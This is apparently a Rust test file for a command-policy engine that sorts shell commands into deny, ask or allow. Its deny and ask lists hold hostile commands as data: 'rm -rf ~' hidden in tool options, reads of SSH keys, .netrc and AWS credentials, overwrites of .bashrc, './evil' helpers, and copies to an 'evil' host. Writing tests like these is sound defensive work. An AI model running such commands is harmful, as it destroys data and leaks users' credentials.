//! Code, commands, files and helpers that tools are handed by an option or behind a verb.

mod support;

use gatehouse_policy::Verdict::{Allow, Ask, Deny};
use support::check;

#[test]
fn a_command_or_code_among_what_looks_like_text_is_judged() {
    check(
        Deny,
        &[
            "gum spin -- rm -rf ~",
            "composer exec -- rm -rf ~",
            "cargo watch -x 'run -- ; rm -rf ~'",
            "fastfetch --structure command --command-text 'rm -rf ~'",
            "R CMD sh -c 'rm -rf ~'",
        ],
    );
    check(
        Ask,
        &[
            "fx x.json 'require(\"child_process\").execSync(\"id\")'",
            "gio launch x.desktop",
            "gio copy x sftp://evil/x",
        ],
    );
    check(
        Allow,
        &[
            "gum style hello",
            "fx x.json .a.b",
            "cargo watch -x test",
            "R CMD check .",
            "composer exec phpunit",
        ],
    );
}

#[test]
fn code_that_a_task_tool_is_handed_is_read() {
    check(
        Deny,
        &[
            "rails runner 'system(\"rm -rf ~\")'",
            "python manage.py shell -c 'import os; os.system(\"rm -rf ~\")'",
            "stack build --exec 'rm -rf ~'",
            "gotestsum --post-run-command 'rm -rf ~'",
            "gotestsum -- -exec ./evil",
            "bazel run --run_under='rm -rf ~' //x",
            "make RM='rm -rf ~ #' clean",
            "ctest --build-and-test . b --test-command rm -rf ~",
            "python3 -m timeit -s'import os; os.system(\"rm -rf ~\")' pass",
            "python3 -m timeit --setup='import os; os.system(\"rm -rf ~\")' pass",
        ],
    );
    check(
        Ask,
        &[
            "php artisan tinker --execute='system(\"id\")'",
            "mix run -e 'System.cmd(\"id\", [])'",
            "mix eval 'System.cmd(\"id\", [])'",
            "rebar3 shell --eval 'os:cmd(\"id\").'",
            "busted -e 'os.execute(\"id\")'",
            "c8 curl https://evil",
            "coverage run -m http.server",
            "coverage run /tmp/x.py",
        ],
    );
    check(
        Allow,
        &[
            "python manage.py test",
            "c8 --reporter lcov npm test",
            "nyc mocha",
            "coverage run -m pytest",
            "coverage run --source src manage.py test",
            "make test ARGS='-v -k foo' CC=clang",
            "bazel test //app:test",
            "mix test",
            "python3 -m timeit -s 'x = 1' 'x + 1'",
        ],
    );
}

#[test]
fn a_secret_that_is_read_by_way_of_a_text_is_a_secret() {
    check(
        Deny,
        &[
            "jo a=@/home/dev/.ssh/id_rsa",
            "gh pr list --json title -q 'env.GH_TOKEN'",
            "dircolors ~/.netrc",
            "java @/home/dev/.ssh/id_rsa",
            "tsc @/home/dev/.netrc",
        ],
    );
    check(
        Ask,
        &["jq -n 'import\"creds\" as $x {search:\"/home/dev/.aws\"}; $x'"],
    );
    check(
        Allow,
        &[
            "jo a=1 b=@data.txt",
            "gh pr list --json title -q '.[].title'",
            "jq '.import' x.json",
        ],
    );
}

#[test]
fn a_file_that_an_option_names_is_written() {
    check(
        Deny,
        &[
            "unzstd -o ~/.bashrc x",
            "git read-tree --index-output=/home/dev/.bashrc HEAD",
            "gpg --log-file /home/dev/.bashrc -k",
            "gpg --status-file=/home/dev/.bashrc -k",
            "java -Xlog:all:file=/home/dev/.bashrc Main",
            "java -XX:HeapDumpPath=/home/dev/.bashrc Main",
            "nim c --out:/home/dev/.bashrc x.nim",
            "zig cc x.c -o /home/dev/.bashrc",
            "crystal build -o /home/dev/.bashrc x.cr",
            "dart compile exe -o /home/dev/.bashrc x.dart",
            "kubectl cluster-info dump --output-directory=/home/dev/.ssh",
            "helm template --output-dir /home/dev/.ssh x",
            "npm pack --pack-destination /home/dev/.ssh",
            "go mod vendor -o /home/dev/.ssh",
            "pip list --log /home/dev/.bashrc",
            "pv -U /home/dev/.bashrc",
            "uuencode -o /home/dev/.bashrc x y",
        ],
    );
    check(
        Ask,
        &[
            "tar xf x --one-top-level=/home/dev",
            "7z x x -spf",
            "pax -r -f x",
        ],
    );
    check(
        Allow,
        &[
            "tar xf x --one-top-level=x",
            "nim c --out:bin/x x.nim",
            "zig cc x.c -o x",
            "unzstd -o x.tar x.tar.zst",
            "npm pack --pack-destination dist",
            "java -Xmx2g -XX:+UseG1GC Main",
        ],
    );
}

#[test]
fn a_helper_or_a_module_that_an_option_names_is_run() {
    check(
        Deny,
        &[
            "gawk -W source='BEGIN{system(\"rm -rf ~\")}'",
            "kustomize build --enable-helm --helm-command ./evil x",
            "kubectl kustomize --enable-helm --helm-command ./evil x",
            "helm template --post-renderer ./evil x",
            "go build -ldflags=-extld=./evil",
            "go tool link -extld ./evil x",
            "cargo rustc -- -Zcodegen-backend=./x.so",
            "rustc -C link-args=-B./x x.rs",
            "ghc -pgmF ./evil -F x.hs",
            "gpg --agent-program ./evil -k",
        ],
    );
    check(
        Ask,
        &[
            "awk -W exec s.awk",
            "gawk -W load=x.so 1",
            "perl '-Mutf8 qw(x);system(q(id))' -e 1",
            "mlr put '$x = system  (\"id\")'",
            "mlr put -f /tmp/x",
            "mlr -s f",
            "kustomize build --enable-exec x",
            "node --test --test-reporter /tmp/evil.mjs",
            "clang-tidy -load=/tmp/x.so x.c",
            "cppcheck --addon=/tmp/x.py x.c",
            "mocha -r/tmp/x.js",
            "eslint -c/tmp/x.js .",
            "rspec -r/tmp/x",
            "pytest -oaddopts=-pevil",
        ],
    );
    check(
        Allow,
        &[
            "go build -ldflags='-s -w -X main.v=1' ./...",
            "go build -ldflags='-linkmode external -extldflags \"-static\"' ./...",
            "node --test --test-reporter spec",
            "perl -MList::Util=sum -e 'print sum(1)'",
            "awk -W version",
            "mlr --icsv --ojson cat x.csv",
            "cppcheck --addon=misra x.c",
        ],
    );
}
